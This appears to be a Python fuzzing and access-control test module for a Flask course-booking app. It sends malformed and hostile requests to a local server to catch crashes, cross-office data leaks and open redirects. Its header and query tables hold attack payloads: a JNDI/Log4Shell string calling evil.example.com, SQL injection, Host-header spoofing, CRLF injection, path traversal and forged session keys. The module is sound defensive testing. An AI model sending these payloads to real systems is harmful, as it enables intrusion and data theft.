"""A hostile hand at every door of a real server: it knows the pages, the forms, and the numbers of others' things."""

from __future__ import annotations

import http.client
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from random import Random

from flask import Flask

from courseapp.domain.access import UserRole
from tests.house import access, access_table
from tests.lived_in import LivedIn
from tests.load.forms import WILD, Form, body_of, forms_in
from tests.people import logged_in

HOST = "kurs.example.org"
ENDS_ALL = ("/kontor/logg-ut", "/slett", "/avlys", "/personvern/slett")
"""Forms after which little is left to look at; they are sent with a token that is good one time in twenty."""

HEADERS: dict[str, tuple[str, ...]] = {
    "If-None-Match": ("*", '"x"', "W/", "," * 5000, '"' * 99, 'W/"a", "b'),
    "If-Modified-Since": ("Thu, 01 Jan 1970 00:00:00 GMT", "i går", "Sun, 99 Foo 20000 00:00:00 GMT", "-1"),
    "Range": (
        "bytes=0-0",
        "bytes=-1",
        "bytes=9-1",
        "bytes=0-,0-,0-,0-",
        "bytes=99999999999999999999-",
        "pages=1-2",
        "=",
    ),
    "If-Range": ('"x"', "i går"),
    "Accept-Encoding": ("gzip;q=-1", "gzip;q=1e999", "*;q=0", "gzip," * 500, "br, gzip;q=x", "identity;q=0"),
    "Accept": ("application/json", "*/*;q=NaN", "text/html;q=" + "9" * 400, "," * 2000),
    "Accept-Language": ("nn", "xx-" * 500, "no;q=x", "\xff\xfe"),
    "X-Forwarded-For": ("127.0.0.1", "::1, evil", "' OR 1=1", "1.2.3.4, " * 300),
    "X-Forwarded-Proto": ("https", "javascript", "https, http"),
    "X-Forwarded-Host": ("evil.example.com", "[", "kurs.example.org, evil.example.com"),
    "X-Forwarded-Prefix": ("/evil", "//evil.example.com"),
    "X-HTTP-Method-Override": ("DELETE", "PUT"),
    "X-Original-URL": ("/kontor/", "/../"),
    "Content-Type": (
        "application/json",
        "text/xml; charset=utf-16",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=" + "x" * 3000,
        "application/x-www-form-urlencoded; charset=utf-7",
        ";;;",
        "\xff",
    ),
    "Content-Encoding": ("gzip", "br", "x"),
    "Expect": ("100-continue", "x"),
    "Cookie": (
        "courseapp=",
        "courseapp=.eJx; courseapp=x",
        "courseapp=eyJ1c2VyIjpbMSwxXX0.aaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbb",
        "courseapp=" + "A" * 4000,
        "=;=;=;",
        "courseapp=\xff\xfe",
        "__Host-courseapp=x",
    ),
    "Host": ("evil.example.com", "127.0.0.1", "", "kurs.example.org:99999", "[::1", "kurs.example.org/x", "a b"),
    "Origin": ("null", "http://evil.example.com"),
    "Referer": ("http://evil.example.com/kontor/", "\xff"),
    "User-Agent": ("", "A" * 7000, "\x7f", "${jndi:ldap://evil.example.com}"),
    "Transfer-Encoding": ("identity", "gzip, chunked", "x"),
    "Upgrade": ("websocket", "h2c"),
    "Connection": ("close", "upgrade", "Cookie, Host"),
}


@dataclass
class Door:
    """One visitor: her cookies, her pages, and what she must never read."""

    kind: str
    cookie: str
    paths: list[str]
    never: tuple[str, ...]
    forms: list[Form] = field(default_factory=list)


@dataclass(frozen=True)
class Sent:
    """One request, to be told when its answer is wrong."""

    door: Door
    method: str
    path: str
    body: bytes | None
    headers: Mapping[str, str]


def doors(app: Flask, world: LivedIn, other: LivedIn) -> list[Door]:
    """Six visitors; each knows every address of her own, and the other office's as well."""
    logins = {
        "reader": ("nord", UserRole.READER),
        "organizer": ("nord", UserRole.ORGANIZER),
        "organizer of another office": ("ost", UserRole.ORGANIZER),
    }
    declared, found = access_table.declared(), []
    for kind in ("nobody", "participant", "course leader", *logins):
        mine = other if kind == "organizer of another office" else world
        theirs = world if mine is other else other
        never: tuple[str, ...] = (world.mark, other.mark) if kind == "nobody" else (theirs.mark,)
        never += tuple(f"{mine.mark}{number}q" for number in (2, 3, 6)) if kind == "participant" else ()
        column = access.KINDS.index("organizer" if mine is other else kind)
        paths = [
            access.address(rule, mine, kind)
            for method, rule in access.routes(app)
            if method == "GET" and declared[method, rule.endpoint][column] == "y"
        ]
        cookie = ""
        if kind in logins:
            office, role = logins[kind]
            kept = logged_in(app, office=office, role=role).client.get_cookie("courseapp", domain=HOST)
            assert kept is not None
            cookie = f"courseapp={kept.value}"
        found.append(Door(kind, cookie, paths, never))
    return found


def others_paths(app: Flask, other: LivedIn) -> list[str]:
    """Every page of the other office, as its own people ask for it, but for those with a secret."""
    return [
        access.address(rule, other, "nobody")
        for method, rule in access.routes(app)
        if method == "GET" and "key" not in rule.arguments and "token" not in rule.arguments
    ]


class Hand:
    """Sends, and looks at what comes back. One line, kept open as browsers do."""

    def __init__(self, port: int) -> None:
        self.port, self.line = port, http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        self.statuses: Counter[int] = Counter()
        self.wrong: list[str] = []

    def enter(self, door: Door) -> None:
        """Take the cookie in which the tokens of her forms are believed."""
        self.line.request("GET", "/finn", headers=_headers(door))
        answer = self.line.getresponse()
        answer.read()
        door.cookie = str(answer.headers["Set-Cookie"]).partition(";")[0]

    def send(self, sent: Sent) -> str:
        """The text of the answer; a status of 500 or more, or another's mark in it, is kept as wrong."""
        status, head, body = self._ask(sent)
        self.statuses[status] += 1
        text = body.decode("utf-8", "replace") + head
        asked = f"{sent.door.kind}: {sent.method} {sent.path[:200]} {dict(sent.headers)!s:.300} {sent.body!r:.300}"
        if status >= 500 and not _may_fail(status, sent):
            self.wrong.append(f"{status} {asked}")
        echoed = sent.path.encode() + (sent.body or b"") + str(sent.headers).encode("utf-8", "replace")
        shown = [mark for mark in sent.door.never if mark in text and mark.encode() not in echoed]
        if shown:
            self.wrong.append(f"shows {shown} {asked}")
        if status in {301, 302, 303, 307, 308} and not _stays(head):
            self.wrong.append(f"leads away {head!r:.200} {asked}")
        return text

    def _ask(self, sent: Sent) -> tuple[int, str, bytes]:
        """Once more on a new line where the server had hung up on an idle one, or had to after what came before."""
        for again in (True, False):
            try:
                self.line.putrequest(sent.method, sent.path, skip_host=True, skip_accept_encoding=True)
                for name, value in sent.headers.items():
                    self.line.putheader(name, value.encode("latin-1", "replace"))
                if sent.body is not None:
                    self.line.putheader("Content-Length", str(len(sent.body)))
                self.line.endheaders(sent.body)
                answer = self.line.getresponse()
                body = answer.read()
                return answer.status, str(answer.headers.get("Location") or ""), body
            except (OSError, http.client.HTTPException):
                self.line.close()
                if not again:
                    return 0, "", b""
        raise AssertionError("unreachable")


def _may_fail(status: int, sent: Sent) -> bool:
    """No worker runs here, and says so; what nobody knows how to unpack is 501 (RFC 9112, section 6.1)."""
    return (status == 503 and sent.path.startswith("/readyz")) or (
        status == 501 and "Transfer-Encoding" in sent.headers
    )


def _stays(location: str) -> bool:
    return location.startswith("/") and not location.startswith(("//", "/\\"))


def honest(door: Door, path: str) -> Sent:
    """A page, as a browser asks for it."""
    return Sent(door, "GET", path, None, _headers(door))


def _headers(door: Door) -> dict[str, str]:
    return {"Host": HOST, **({"Cookie": door.cookie} if door.cookie else {})}


def requests(door: Door, others: list[str], keys: list[str], chance: Random) -> Iterator[Sent]:
    """What a hostile hand sends, for ever."""
    while True:
        match chance.randrange(20):
            case 0 | 1 | 2:
                yield honest(door, chance.choice(others))
            case 3 | 4:
                yield honest(door, _spoilt_key(chance.choice(keys), keys, chance))
            case 5 | 6 | 7:
                yield _odd_headers(door, chance)
            case 8 | 9:
                yield honest(door, _odd_query(chance.choice([*door.paths, *others]), chance))
            case _ if door.forms:
                yield _form(door, chance.choice(door.forms), chance)
            case _:
                yield honest(door, chance.choice(door.paths))


def _form(door: Door, form: Form, chance: Random) -> Sent:
    good = chance.random() < (0.05 if form.action.endswith(ENDS_ALL) else 0.85)
    body, kind = body_of(form, chance, honest_token=good and not form.action.endswith("/logg-ut"))
    return Sent(door, "POST", form.action, body, {**_headers(door), "Content-Type": kind})


def _spoilt_key(key: str, keys: list[str], chance: Random) -> str:
    # Not the last letter, some bits of which mean nothing, and no padding: both would leave the key what it was.
    at = chance.randrange(1, len(key) - 1)
    other = chance.choice([letter for letter in "AZ-_." if letter != key[at]])
    way = chance.choice(["/min/", "/leder/", "/kal/", "/oppmote/", "/evaluering/", "/kursbevis/"])
    spoilt = chance.choice(
        [
            key[:at],
            key + chance.choice("A.%"),
            key[:at] + other + key[at + 1 :],
            chance.choice(keys).rpartition(".")[0] + "." + key.rpartition(".")[2],
            key.swapcase(),
            "%00" + key,
            key + "%0a",
            "..%2f" + key,
            "9" * 500,
        ]
    )
    spoilt = f"{spoilt}A" if spoilt in keys else spoilt  # a payload with its own signature is no forgery
    return f"{way}{spoilt}{chance.choice(['', '', '/endre', '/kursbevis.pdf', '/mine-data', '.ics'])}"


def _odd_headers(door: Door, chance: Random) -> Sent:
    odd = {name: chance.choice(HEADERS[name]) for name in chance.sample(sorted(HEADERS), chance.randrange(1, 4))}
    method = chance.choice(["GET", "GET", "GET", "HEAD", "OPTIONS", "POST", "PUT", "TRACE", "get", "X" * 30])
    body = b"a=b" if method == "POST" else None
    headers = {**_headers(door), **{name: value for name, value in odd.items() if value or name != "Host"}}
    return Sent(door, method, chance.choice(door.paths), body, headers)


def _odd_query(path: str, chance: Random) -> str:
    names = (
        "side",
        "ar",
        "kontor",
        "q",
        "sok",
        "vis",
        "sort",
        "rolle",
        "status",
        "neste",
        "kind",
        "office",
        "type",
        "til",
    )
    values = (
        "%00",
        "-1",
        "9" * 300,
        "%ff",
        "%F0%9F%8F%B3",
        "a" * 3000,
        "'",
        "//evil.example.com",
        "%0d%0aX:y",
        "[]",
        "",
    )
    query = "&".join(f"{chance.choice(names)}={chance.choice(values)}" for _ in range(chance.randrange(1, 5)))
    return f"{path.partition('?')[0]}?{query}"


def memory(pid: int) -> int:
    """How much memory a process and its children hold, each page counted once, in MB (Linux)."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text(encoding="ascii").split()
    whole = 0
    for one in (str(pid), *children):
        lines = Path(f"/proc/{one}/smaps_rollup").read_text(encoding="ascii").splitlines()
        whole += sum(int(line.split()[1]) for line in lines if line.startswith("Pss:"))
    return whole // 1024


__all__ = ["WILD", "Door", "Hand", "Sent", "doors", "forms_in", "honest", "memory", "others_paths", "requests"]
